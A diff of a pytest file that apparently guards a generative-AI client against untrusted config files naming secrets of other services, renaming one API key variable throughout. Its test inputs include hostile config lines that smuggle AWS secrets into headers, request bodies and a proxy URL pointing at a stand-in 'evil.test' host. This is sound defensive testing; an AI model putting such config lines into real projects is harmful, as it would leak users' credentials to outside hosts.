@@ -48,7 +48,7 @@ def folder(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
     (project / ".git").mkdir(parents=True)
     monkeypatch.chdir(project)
     monkeypatch.setenv("XDG_CONFIG_HOME", str(tmp_path / "config"))
-    for name in ("OPENAI_API_KEY", "VOYAGE_API_KEY", "AWS_SECRET_ACCESS_KEY", "GEN_AI_API_KEY", "MY_KEY"):
+    for name in ("OPENAI_API_KEY", "ELEVENLABS_API_KEY", "AWS_SECRET_ACCESS_KEY", "GEN_AI_API_KEY", "MY_KEY"):
         monkeypatch.setenv(name, SECRET)
     return project
 
@@ -72,7 +72,7 @@ def test_a_strangers_file_may_name_a_key_for_its_endpoint(folder: Path) -> None:
     create_client().close()
 
 
-@pytest.mark.parametrize("name", ["VOYAGE_API_KEY", "AWS_SECRET_ACCESS_KEY", "GEN_AI_API_KEY", "OPENAI_API_KEY"])
+@pytest.mark.parametrize("name", ["ELEVENLABS_API_KEY", "AWS_SECRET_ACCESS_KEY", "GEN_AI_API_KEY", "OPENAI_API_KEY"])
 @pytest.mark.parametrize("line", ['api_key_env = "{}"', 'api_key = "${{{}}}"'])
 def test_but_none_that_belongs_to_something_else(folder: Path, name: str, line: str) -> None:
     strange(folder, EVIL + line.format(name))
@@ -84,7 +84,7 @@ def test_but_none_that_belongs_to_something_else(folder: Path, name: str, line: 
     [
         'headers = { X-A = "${AWS_SECRET_ACCESS_KEY}" }',
         'extra_body = { a = ["${AWS_SECRET_ACCESS_KEY:-x}"] }',
-        'user = "${VOYAGE_API_KEY}"',
+        'user = "${ELEVENLABS_API_KEY}"',
         'proxy = "http://${AWS_SECRET_ACCESS_KEY}.evil.test"',
         'capabilities = { refused = ["${AWS_SECRET_ACCESS_KEY}"] }',
     ],
@@ -98,7 +98,7 @@ def test_a_secret_of_something_else_stands_nowhere_in_it(folder: Path, line: str
 
 
 def test_your_own_file_may_name_any(folder: Path, monkeypatch: pytest.MonkeyPatch) -> None:
-    strange(folder, EVIL + 'api_key_env = "AWS_SECRET_ACCESS_KEY"\nuser = "${VOYAGE_API_KEY}"')
+    strange(folder, EVIL + 'api_key_env = "AWS_SECRET_ACCESS_KEY"\nuser = "${ELEVENLABS_API_KEY}"')
     monkeypatch.setenv("GEN_AI_CONFIG", str(folder / "gen_ai.toml"))
     create_client().close()
 
@@ -166,7 +166,7 @@ def test_a_proxy_without_checked_certificates_reads_along(folder: Path) -> None:
     ("name", "secret"),
     [
         ("GITHUB_TOKEN", True), ("npm_token", True), ("DATABASE_URL", True), ("MY_DB_PASSWORD", True),
-        ("AZURE_CLIENT_SECRET", True), ("SLACK_WEBHOOK_URL", True), ("VOYAGE_API_KEY", True), ("SENTRY_DSN", True),
+        ("AZURE_CLIENT_SECRET", True), ("SLACK_WEBHOOK_URL", True), ("ELEVENLABS_API_KEY", True), ("SENTRY_DSN", True),
         ("MY_KEY", False), ("TEAM_LLM_TOKEN", False), ("AWS_REGION", False), ("GITHUB_REPOSITORY", False),
         ("HOME", False), ("CF_ACCESS_CLIENT_SECRET", False), ("LLM_URL", False),
     ],
